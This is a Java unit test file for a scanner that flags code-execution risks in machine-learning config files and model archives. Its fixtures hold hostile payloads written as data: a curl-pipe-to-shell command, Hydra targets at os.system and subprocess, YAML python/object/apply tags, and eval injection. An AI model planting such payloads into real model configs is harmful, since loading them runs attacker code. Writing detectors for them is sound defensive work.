package io.modelgate.scanner.config;

import io.modelgate.scanner.analysis.FileCollector;
import io.modelgate.scanner.model.Finding;
import io.modelgate.scanner.model.Severity;
import io.modelgate.scanner.testing.ArtifactScan;
import org.junit.jupiter.api.Test;

import java.util.List;

import static io.modelgate.scanner.config.ConfigFixtures.members;
import static io.modelgate.scanner.config.ConfigFixtures.utf8;
import static org.assertj.core.api.Assertions.assertThat;

class ConfigInstantiationTest {

    private static FileCollector scan(String name, String text) {
        return ArtifactScan.scan(name, utf8(text));
    }

    private static List<Finding> findings(FileCollector collector, String ruleId) {
        return collector.findings().stream().filter(f -> f.ruleId().equals(ruleId)).toList();
    }

    private static void assertClean(FileCollector collector) {
        assertThat(ArtifactScan.aboveInfo(collector)).isEmpty();
        assertThat(collector.incompleteReasons()).isEmpty();
    }

    // --- Hydra / OmegaConf targets in YAML ---

    @Test
    void hydraTargetAtOsSystemInHparamsIsCriticalWithItsKeyPath() {
        FileCollector result = scan("hparams.yaml", """
                model:
                  encoder:
                    _target_: os.system
                    command: curl https://example.invalid/x | sh
                lr: 0.001
                """);

        List<Finding> critical = findings(result, "MG-CFG-001");
        assertThat(critical).singleElement().satisfies(f -> {
            assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
            assertThat(f.subject()).isEqualTo("os.system");
            assertThat(f.message()).contains("model.encoder._target_");
        });
    }

    @Test
    void nemoArchiveWhoseModelConfigNamesSubprocessIsCritical() {
        String config = ConfigFixtures.NEMO_ASR_CONFIG.replace(
                "_target_: nemo.collections.asr.modules.ConvASRDecoder",
                "_target_: subprocess.Popen\n  _args_: [[sh, -c, id]]");
        byte[] nemo = ConfigFixtures.tar(members("./model_config.yaml", utf8(config),
                "./model_weights.ckpt", new byte[]{0x50, 0x4b, 0x05, 0x06, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
                        0, 0, 0, 0}), true);

        FileCollector result = ArtifactScan.scan("asr.nemo", nemo);

        assertThat(findings(result, "MG-CFG-001")).singleElement().satisfies(f -> {
            assertThat(f.subject()).isEqualTo("subprocess.Popen");
            assertThat(f.message()).contains("decoder._target_");
            assertThat(f.location().path().toString()).endsWith("model_config.yaml");
        });
    }

    @Test
    void realShapedNemoConfigAndArchiveAreClean() {
        assertClean(scan("model_config.yaml", ConfigFixtures.NEMO_ASR_CONFIG));
        byte[] nemo = ConfigFixtures.tar(members("./model_config.yaml", utf8(ConfigFixtures.NEMO_ASR_CONFIG)), false);
        assertThat(findings(ArtifactScan.scan("asr.nemo", nemo), "MG-CFG-001")).isEmpty();
        assertThat(ArtifactScan.aboveInfo(ArtifactScan.scan("asr.nemo", nemo))).isEmpty();
    }

    @Test
    void realShapedLightningHparamsIsClean() {
        FileCollector result = scan("hparams.yaml", ConfigFixtures.LIGHTNING_HPARAMS);

        assertClean(result);
        assertThat(findings(result, "MG-CFG-006")).singleElement()
                .satisfies(f -> assertThat(f.subject()).isEqualTo("pathlib.PosixPath"));
    }

    @Test
    void unreviewedTargetsAreReviewFindingsAndReviewedOnesAreNot() {
        FileCollector result = scan("config.yaml", """
                trainer:
                  callbacks:
                    - _target_: lightning.pytorch.callbacks.ModelCheckpoint
                      monitor: val_loss
                    - _target_: acme_tools.callbacks.Uploader
                      bucket: results
                model:
                  class_path: my_project.models.Net
                  init_args: {hidden: 128}
                """);

        assertThat(findings(result, "MG-CFG-003")).extracting(Finding::subject)
                .containsExactlyInAnyOrder("acme_tools.callbacks.Uploader", "my_project.models.Net");
        assertThat(findings(result, "MG-CFG-003")).anySatisfy(f ->
                assertThat(f.message()).contains("trainer.callbacks[1]._target_"));
        assertThat(findings(result, "MG-CFG-003")).allMatch(f -> f.severity() == Severity.MEDIUM);
    }

    @Test
    void locatorsAreJudgedByThePathTheyResolve() {
        FileCollector result = scan("config.yaml", """
                hook:
                  _target_: hydra.utils.get_method
                  path: builtins.exec
                other:
                  _target_: hydra.utils.get_class
                  _args_: [torch.nn.Linear]
                blind:
                  _target_: hydra.utils.get_object
                """);

        assertThat(findings(result, "MG-CFG-001")).singleElement()
                .satisfies(f -> assertThat(f.subject()).isEqualTo("builtins.exec"));
        assertThat(findings(result, "MG-CFG-008")).singleElement()
                .satisfies(f -> assertThat(f.message()).contains("blind._target_"));
        assertThat(findings(result, "MG-CFG-003")).isEmpty();
    }

    @Test
    void denylistedModulesReachedThroughReviewedNamespacesAreCritical() {
        FileCollector result = scan("config.yaml", """
                a: {_target_: torch.os.system, _args_: [id]}
                b: {_target_: transformers.utils.hub.cached_file}
                c: {_target_: torch.__builtins__.eval}
                d: {_target_: torch.load, f: /tmp/payload.pt}
                """);

        assertThat(findings(result, "MG-CFG-001")).extracting(Finding::subject).containsExactlyInAnyOrder(
                "torch.os.system", "transformers.utils.hub.cached_file", "torch.__builtins__.eval", "torch.load");
        assertThat(findings(result, "MG-CFG-004")).singleElement()
                .satisfies(f -> assertThat(f.message()).contains("d.f"));
    }

    @Test
    void interpolatedTargetsAreFollowedOrLeftIncomplete() {
        FileCollector followed = scan("config.yaml", """
                names: {runner: posix.system}
                job: {_target_: "${names.runner}"}
                """);
        FileCollector computed = scan("config.yaml", """
                job: {_target_: "${oc.env:RUNNER}"}
                """);

        assertThat(findings(followed, "MG-CFG-001")).singleElement()
                .satisfies(f -> assertThat(f.subject()).isEqualTo("posix.system"));
        assertThat(computed.incompleteReasons()).singleElement().asString().contains("job._target_");
    }

    @Test
    void argumentsThatFetchOrLeaveTheModelAreFindings() {
        FileCollector result = scan("config.yaml", """
                model:
                  _target_: transformers.AutoModel.from_pretrained
                  pretrained_model_name_or_path: https://example.invalid/model
                  trust_remote_code: true
                ckpt:
                  _target_: nemo.collections.asr.models.ASRModel.restore_from
                  restore_path: ../../shared/other.nemo
                """);

        assertThat(findings(result, "MG-CFG-005")).hasSize(2);
        assertThat(findings(result, "MG-CFG-004")).singleElement()
                .satisfies(f -> assertThat(f.message()).contains("ckpt.restore_path"));
    }

    // --- YAML Python tags ---

    @Test
    void pythonApplyTagAtOsSystemIsCriticalAnywhereInYaml() {
        FileCollector result = scan("settings.yml", "run: !!python/object/apply:os.system [\"id\"]\n");

        assertThat(findings(result, "MG-CFG-001")).singleElement().satisfies(f -> {
            assertThat(f.subject()).isEqualTo("os.system");
            assertThat(f.message()).contains("run").contains("'id'");
        });
    }

    @Test
    void everyConstructingTagKindIsJudged() {
        FileCollector result = scan("hparams.yaml", """
                %TAG !py! tag:yaml.org,2002:python/
                ---
                a: !py!object/new:acme.Gadget {state: 1}
                b: !!python/name:subprocess.check_output ''
                c: !!python/module:importlib ''
                d: !<tag:yaml.org,2002:python/object:acme.Thing> {x: 1}
                e: !!python/object/apply:collections.OrderedDict [[[k, 1]]]
                f: !!python/tuple [1, 2]
                """);

        assertThat(findings(result, "MG-CFG-002")).extracting(Finding::subject)
                .containsExactlyInAnyOrder("acme.Gadget", "acme.Thing");
        assertThat(findings(result, "MG-CFG-002")).allMatch(f -> f.severity() == Severity.HIGH);
        assertThat(findings(result, "MG-CFG-001")).extracting(Finding::subject)
                .containsExactlyInAnyOrder("subprocess.check_output", "importlib");
        assertThat(findings(result, "MG-CFG-006")).extracting(Finding::subject)
                .containsExactly("collections.OrderedDict");
        assertThat(result.incompleteReasons()).isEmpty();
    }

    @Test
    void pythonTagInATextNotNamedYamlIsStillFound() {
        FileCollector result = scan("settings.cfg", "job: !!python/object/apply:os.system ['id']\n");

        assertThat(findings(result, "MG-CFG-001")).hasSize(1);
    }

    @Test
    void proseThatMentionsTagsIsNoYamlALoaderReads() {
        FileCollector result = scan("NOTES.md", """
                # Fixtures

                | file | what |
                |---|---|
                | `reduce.yaml` | dump of `!!python/object/apply:posix.system` |
                | `new.yaml` | `!!python/object:` of a class |
                """);

        assertThat(result.format()).isEqualTo(io.modelgate.scanner.detect.ModelFormat.TEXT);
        assertClean(result);
        assertThat(result.findings()).isEmpty();
    }

    @Test
    void pythonTagInUnparseableYamlIsFoundAndAFollowedFileIsIncomplete() {
        String broken = "model: [\n  cmd: !!python/object/apply:os.system [\"id\"\n";
        FileCollector followed = scan("hparams.yaml", broken);
        FileCollector plain = scan("notes.yaml", broken);

        assertThat(findings(followed, "MG-CFG-001")).hasSize(1);
        assertThat(followed.incompleteReasons()).singleElement().asString().contains("not valid YAML");
        assertThat(findings(plain, "MG-CFG-001")).hasSize(1);
        assertThat(plain.incompleteReasons()).isEmpty();
    }

    // --- sentence-transformers ---

    @Test
    void modulesJsonWithACustomTypeAndAPathOutOfTheModelAreFindings() {
        FileCollector result = scan("modules.json", """
                [
                  {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
                  {"idx": 1, "name": "1", "path": "../../outside", "type": "custom_layers.Gate"}
                ]""");

        assertThat(findings(result, "MG-CFG-003")).singleElement().satisfies(f -> {
            assertThat(f.subject()).isEqualTo("custom_layers.Gate");
            assertThat(f.message()).contains("[1].type");
        });
        assertThat(findings(result, "MG-CFG-004")).singleElement()
                .satisfies(f -> assertThat(f.message()).contains("[1].path"));
    }

    @Test
    void realModulesJsonIsCleanAndABrokenOneIsIncomplete() {
        assertClean(scan("modules.json", ConfigFixtures.ST_MODULES));
        assertThat(scan("modules.json", "[{\"idx\": 0, \"type\": ").incompleteReasons()).hasSize(1);
    }

    // --- diffusers, PEFT, Hugging Face configs ---

    @Test
    void modelIndexNamingACustomOrDangerousLibraryIsAFinding() {
        FileCollector result = scan("model_index.json", """
                {
                  "_class_name": "StableDiffusionPipeline",
                  "_diffusers_version": "0.30.0",
                  "unet": ["my_unet", "FastUNet"],
                  "vae": ["os", "system"],
                  "scheduler": ["diffusers", "PNDMScheduler"]
                }""");

        assertThat(findings(result, "MG-CFG-003")).singleElement()
                .satisfies(f -> assertThat(f.subject()).isEqualTo("my_unet.FastUNet"));
        assertThat(findings(result, "MG-CFG-001")).singleElement()
                .satisfies(f -> assertThat(f.message()).contains("vae"));
    }

    @Test
    void realModelIndexAndAdapterConfigAreClean() {
        assertClean(scan("model_index.json", ConfigFixtures.SD_MODEL_INDEX));
        assertClean(scan("adapter_config.json", ConfigFixtures.PEFT_ADAPTER));
    }

    @Test
    void customPipelineClassAndDownloadedPipelineAreFindings() {
        FileCollector result = scan("model_index.json", """
                {"_class_name": ["pipeline_fast", "FastPipeline"], "_diffusers_version": "0.30.0",
                 "custom_pipeline": "someone/community-pipeline"}""");

        assertThat(findings(result, "MG-CFG-003")).extracting(Finding::subject).containsExactly("pipeline_fast.FastPipeline");
        assertThat(findings(result, "MG-CFG-005")).hasSize(1);
    }

    @Test
    void adapterConfigAutoMappingAndBasePathAreJudged() {
        FileCollector result = scan("adapter_config.json", ConfigFixtures.PEFT_ADAPTER
                .replace("\"auto_mapping\": null", "\"auto_mapping\": {\"base_model_class\": \"system\", "
                        + "\"parent_library\": \"os\"}")
                .replace("meta-llama/Llama-2-7b-hf", "../../base-model"));

        assertThat(findings(result, "MG-CFG-001")).singleElement()
                .satisfies(f -> assertThat(f.message()).contains("auto_mapping"));
        assertThat(findings(result, "MG-CFG-007")).hasSize(1);
    }

    @Test
    void preprocessorAutoMapToAnotherRepositoryIsExternalCode() {
        FileCollector result = scan("preprocessor_config.json", """
                {"auto_map": {"AutoImageProcessor": "someone/other-repo--image_processing_x.XProcessor"},
                 "image_processor_type": "XProcessor", "do_resize": true, "size": {"height": 224, "width": 224}}""");

        assertThat(findings(result, "MG-HF-002")).singleElement()
                .satisfies(f -> assertThat(f.subject()).isEqualTo("someone/other-repo/image_processing_x"));
    }

    @Test
    void transformersCustomPipelinesAreCustomCode() {
        FileCollector result = scan("config.json", """
                {"architectures": ["BertForSequenceClassification"], "model_type": "bert",
                 "custom_pipelines": {"pair-classification": {"impl": "custom_pipeline.PairClassificationPipeline",
                   "pt": ["AutoModelForSequenceClassification"], "tf": []}}}""");

        assertThat(findings(result, "MG-HF-001")).singleElement()
                .satisfies(f -> assertThat(f.subject()).isEqualTo("custom_pipeline"));
    }

    @Test
    void hydraTargetInAJsonConfigIsJudged() {
        FileCollector result = scan("train_config.json", """
                {"model": {"_target_": "builtins.eval", "_args_": ["__import__('os').system('id')"]}}""");

        assertThat(findings(result, "MG-CFG-001")).hasSize(1);
    }

    // --- safetensors metadata ---

    @Test
    void safetensorsMetadataHoldingATargetConfigIsJudged() {
        byte[] file = ConfigFixtures.safetensors("{\"format\":\"pt\",\"config\":\"{\\\"model\\\": {\\\"_target_\\\": "
                + "\\\"subprocess.run\\\", \\\"args\\\": [\\\"id\\\"]}}\"}");

        FileCollector result = ArtifactScan.scan("model.safetensors", file);

        assertThat(findings(result, "MG-CFG-001")).singleElement().satisfies(f -> {
            assertThat(f.subject()).isEqualTo("subprocess.run");
            assertThat(f.message()).contains("__metadata__ 'config' model._target_");
        });
    }

    @Test
    void safetensorsMetadataWithAReviewedConfigStaysClean() {
        byte[] file = ConfigFixtures.safetensors("{\"format\":\"pt\",\"training_config\":\"{\\\"optimizer\\\": "
                + "{\\\"_target_\\\": \\\"torch.optim.AdamW\\\", \\\"lr\\\": 0.0001}}\"}");

        assertClean(ArtifactScan.scan("model.safetensors", file));
    }

    @Test
    void safetensorsMetadataHoldingYamlWithATagIsJudged() {
        byte[] file = ConfigFixtures.safetensors("{\"hparams\":\"lr: 0.1\\nhook: !!python/name:os.system ''\\n\"}");

        FileCollector result = ArtifactScan.scan("model.safetensors", file);

        assertThat(findings(result, "MG-CFG-001")).singleElement()
                .satisfies(f -> assertThat(f.message()).startsWith("__metadata__ 'hparams' hook is tagged"));
    }
}
